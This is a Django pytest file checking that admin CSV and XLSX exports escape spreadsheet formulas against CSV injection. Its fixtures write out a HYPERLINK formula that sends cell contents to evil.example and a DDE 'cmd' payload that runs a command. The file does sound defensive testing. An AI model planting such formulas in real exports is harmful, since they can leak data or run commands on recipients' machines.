"""Admin CSV exports cannot smuggle formulas into a spreadsheet (OWASP CSV injection)."""

import csv
import io

from django.urls import reverse

import pytest

from cms.exports import escape_formula
from syndication.newsletter.models import Subscriber
from tests.factories import AudienceInterestFactory, SubscriberFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells(rows) -> set[str]:
    return {cell for row in rows[1:] for cell in row}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(start):
    assert escape_formula(f"{start}2+5") == f"'{start}2+5"


@pytest.mark.parametrize("value", ["2+5", "a=b", "", "Home & garden", -3, 2.5, None])
def test_anything_else_is_left_alone(value):
    assert escape_formula(value) == value


def test_the_subscribers_export_escapes_formulas(client, admin_user):
    interest = AudienceInterestFactory(name="=2+5+cmd|' /C calc'!A0")
    SubscriberFactory(email="-2+3@example.com", interests=[interest])
    client.force_login(admin_user)

    rows = csv_rows(client.get("/admin/newsletter/subscribers/", {"export": "csv"}))

    assert rows[1][:3] == [
        "'-2+3@example.com",
        Subscriber.Status.ACTIVE.label,
        "'=2+5+cmd|' /C calc'!A0",
    ]


@pytest.mark.parametrize(
    "url",
    [
        pytest.param("stories_voice_report", id="our voice report"),
        pytest.param("wagtailadmin_reports:aging_pages", id="Wagtail's aging pages report"),
    ],
)
def test_page_titles_are_escaped_in_our_reports_and_wagtails_own(
    client, admin_user, make_story, url
):
    make_story(title=FORMULA)
    client.force_login(admin_user)

    rows = csv_rows(client.get(reverse(url), {"export": "csv"}))

    assert f"'{FORMULA}" in cells(rows)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells(rows))


def test_xlsx_exports_keep_formulas_as_text(client, admin_user, make_story):
    from openpyxl import load_workbook

    make_story(title=FORMULA)
    client.force_login(admin_user)

    response = client.get(reverse("stories_voice_report"), {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [title] = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == FORMULA]
    assert title.data_type == "s"
